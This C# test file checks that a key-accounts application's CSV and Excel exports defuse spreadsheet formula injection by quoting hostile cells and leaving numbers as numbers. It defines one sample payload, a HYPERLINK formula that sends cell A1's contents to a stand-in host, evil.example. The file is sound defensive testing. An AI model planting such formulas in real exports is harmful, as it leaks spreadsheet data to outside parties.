using System.Globalization;
using System.Net;
using CsvHelper;
using KeyAccounts.Analytics;
using KeyAccounts.Features.Accounts;
using KeyAccounts.Features.Evaluation;
using KeyAccounts.Infrastructure;
using Microsoft.EntityFrameworkCore;
using MiniExcelLibs;

namespace KeyAccounts.Tests.Infrastructure;

/// <summary>No export of the app hands a spreadsheet a live formula (CSV injection): hostile text cells start with a quote, numbers stay numbers.</summary>
[Collection(AppCollection.Name)]
public sealed class SpreadsheetCellsTests(TestApp app)
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")";

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+86 574", "'+86 574")]
    [InlineData("-2", "'-2")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("宁波=精工", "宁波=精工")]
    [InlineData("", "")]
    public void Text_FormulaLikeStart_GetsAQuote(string value, string expected) => Assert.Equal(expected, SpreadsheetCells.Text(value));

    [Fact]
    public void Text_Null_StaysNull() => Assert.Null(SpreadsheetCells.Text(null));

    private async Task<(string Code, string Industry)> HostileAccountAsync()
    {
        var code = TestApp.Unique("INJ");
        var industry = TestApp.Unique("@行业");
        using var rep = await app.ClientAsync("rep");
        await (await rep.PostJsonAsync("/api/v1/accounts", new { code, name = Hyperlink + TestApp.Unique(""), type = "Customer", industry, city = "-宁波", province = "+浙江" }))
            .ExpectAsync(HttpStatusCode.Created);
        return (code, industry);
    }

    [Fact]
    public async Task ExportAccountsCsv_HostileTexts_QuotedNumbersUntouched()
    {
        var (code, industry) = await HostileAccountAsync();
        using var rep = await app.ClientAsync("rep");

        var response = await rep.GetAsync($"/api/v1/accounts/export?format=csv&search={code}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var reader = new StreamReader(await response.Content.ReadAsStreamAsync(), detectEncodingFromByteOrderMarks: true);
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        csv.Read();
        csv.ReadHeader();
        Assert.True(csv.Read());

        Assert.Equal(code, csv.GetField("code"));
        Assert.StartsWith("'" + Hyperlink, csv.GetField("name"));
        Assert.Equal("'" + industry, csv.GetField("industry"));
        Assert.Equal("'-宁波", csv.GetField("city"));
        Assert.Equal("'+浙江", csv.GetField("province"));
        Assert.True(int.TryParse(csv.GetField("archiveScore"), CultureInfo.InvariantCulture, out _));
        Assert.False(csv.Read());
    }

    [Fact]
    public async Task ExportAccountsXlsx_HostileTexts_QuotedNumbersStayNumbers()
    {
        var (code, industry) = await HostileAccountAsync();
        using var rep = await app.ClientAsync("rep");

        var response = await rep.GetAsync($"/api/v1/accounts/export?format=xlsx&search={code}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var file = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
        var row = Assert.Single(file.Query(useHeaderRow: true).Cast<IDictionary<string, object?>>());

        Assert.StartsWith("'" + Hyperlink, (string?)row["name"]);
        Assert.Equal("'" + industry, row["industry"]);
        Assert.Equal("'-宁波", row["city"]);
        Assert.IsNotType<string>(row["archiveScore"]);
    }

    /// <summary>The published key-account list's export: a hostile name and owner are quoted, the score stays a number.</summary>
    [Fact]
    public async Task ExportKeyAccountsXlsx_HostileName_QuotedScoreStaysANumber()
    {
        var (code, _) = await HostileAccountAsync();
        var modelId = await KeyAccounts.Tests.Features.Evaluation.EvaluationFixture.ActiveModelAsync(app, KeyAccounts.Tests.Features.Evaluation.EvaluationFixture.BandModel(TestApp.Unique("导出")));
        long runId;
        await using (var db = app.Db())
        {
            var account = await db.Accounts.SingleAsync(a => a.Code == code);
            var run = new EvaluationRun
            {
                ModelId = modelId,
                ModelVersion = 1,
                ModelName = "-model",
                PeriodStart = new DateOnly(2020, 1, 1),
                PeriodEnd = new DateOnly(2020, 12, 31),
                Status = RunStatus.Published,
                CreatedAt = DateTime.UtcNow,
                PublishedAt = DateTime.UtcNow,
                AccountCount = 1,
            };
            db.EvaluationRuns.Add(run);
            await db.SaveChangesAsync();
            runId = run.Id;
            db.EvaluationResults.Add(new EvaluationResult { RunId = run.Id, AccountId = account.Id, Score = 91.5m, Rank = 1, ProposedTier = Tier.Key, Tier = Tier.Key, Change = TierChange.New });
            await db.SaveChangesAsync();
        }
        try
        {
            using var rep = await app.ClientAsync("rep");
            var response = await rep.GetAsync("/api/v1/key-accounts/export");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            using var file = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
            var row = Assert.Single(file.Query(useHeaderRow: true).Cast<IDictionary<string, object?>>());

            Assert.Equal(code, row["code"]);
            Assert.StartsWith("'" + Hyperlink, (string?)row["name"]);
            Assert.Equal(91.5, Convert.ToDouble(row["score"], CultureInfo.InvariantCulture));
            Assert.IsNotType<string>(row["score"]);
        }
        finally
        {
            // Other tests read the latest published run: this one goes.
            await using var db = app.Db();
            await db.EvaluationResults.Where(r => r.RunId == runId).ExecuteDeleteAsync();
            await db.EvaluationRuns.Where(r => r.Id == runId).ExecuteDeleteAsync();
        }
    }
}
